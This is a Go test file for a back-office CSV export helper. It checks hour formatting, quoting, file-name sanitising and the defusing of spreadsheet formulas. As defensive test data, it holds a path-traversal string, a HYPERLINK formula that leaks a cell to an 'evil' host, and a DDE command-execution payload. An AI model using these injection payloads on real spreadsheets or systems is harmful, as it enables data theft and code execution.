package httpx_test

import (
	"encoding/csv"
	"net/http/httptest"
	"strings"
	"testing"

	"backoffice/http/httpx"
)

func TestDecimalHours(t *testing.T) {
	for _, tc := range []struct {
		minutes int
		want    string
	}{
		{0, "0"},
		{480, "8"},
		{510, "8,5"},
		{20, "0,33"},
		{40, "0,67"},
		{1, "0,02"},
		{45, "0,75"},
		{6, "0,1"},
		{2400, "40"},
		{-90, "-1,5"},
	} {
		if got := httpx.DecimalHours(tc.minutes); got != tc.want {
			t.Errorf("DecimalHours(%d) = %q, want %q", tc.minutes, got, tc.want)
		}
	}
}

func TestWriteCSV(t *testing.T) {
	rec := httptest.NewRecorder()
	err := httpx.WriteCSV(rec, `uren "2026"/W01.csv`,
		[]string{"Naam", "Uren"},
		[][]string{{"Jansen; Piet", "8,5"}, {"=HYPERLINK(\"x\")", "-1,5"}, {"Élise \"de\" Vries", "0"}})
	if err != nil {
		t.Fatal(err)
	}
	if ct := rec.Header().Get("Content-Type"); ct != "text/csv; charset=utf-8" {
		t.Errorf("Content-Type = %q", ct)
	}
	if cd := rec.Header().Get("Content-Disposition"); cd != `attachment; filename="uren__2026__W01.csv"` {
		t.Errorf("Content-Disposition = %q", cd)
	}
	want := "\ufeff" +
		"Naam;Uren\r\n" +
		"\"Jansen; Piet\";8,5\r\n" +
		"\"'=HYPERLINK(\"\"x\"\")\";-1,5\r\n" +
		"\"Élise \"\"de\"\" Vries\";0\r\n"
	if got := rec.Body.String(); got != want {
		t.Errorf("body\n got %q\nwant %q", got, want)
	}
}

func TestSafeFileName(t *testing.T) {
	for in, want := range map[string]string{
		"urenrapport-2026-W01.csv": "urenrapport-2026-W01.csv",
		"../../etc/passwd":         "etc_passwd",
		"":                         "fallback.csv",
		"\"\r\n":                   "fallback.csv",
	} {
		if got := httpx.SafeFileName(in, "fallback.csv"); got != want {
			t.Errorf("SafeFileName(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestWriteCSVDefusesFormulas: every cell a spreadsheet could run as a
// formula gets an apostrophe, including those that start like a negative
// number; plain numbers stay numbers.
func TestWriteCSVDefusesFormulas(t *testing.T) {
	for in, want := range map[string]string{
		`-1+HYPERLINK("https://evil/?"&A2)`: `'-1+HYPERLINK("https://evil/?"&A2)`,
		`-2+3+cmd|' /C calc'!A0`:            `'-2+3+cmd|' /C calc'!A0`,
		"=1+1":                              "'=1+1",
		"+31 6 1234":                        "'+31 6 1234",
		"@SUM(A1)":                          "'@SUM(A1)",
		"-":                                 "'-",
		"\nx":                               "'\nx",
		"-1,5":                              "-1,5",
		"12":                                "12",
		"0,33":                              "0,33",
		"Jan de Vries":                      "Jan de Vries",
	} {
		rec := httptest.NewRecorder()
		if err := httpx.WriteCSV(rec, "x.csv", []string{"h"}, [][]string{{in}}); err != nil {
			t.Fatal(err)
		}
		r := csv.NewReader(strings.NewReader(strings.TrimPrefix(rec.Body.String(), "\ufeff")))
		r.Comma = ';'
		rows, err := r.ReadAll()
		if err != nil {
			t.Fatalf("%q: %v", in, err)
		}
		if got := rows[1][0]; got != want {
			t.Errorf("cell %q written as %q, want %q", in, got, want)
		}
	}
}
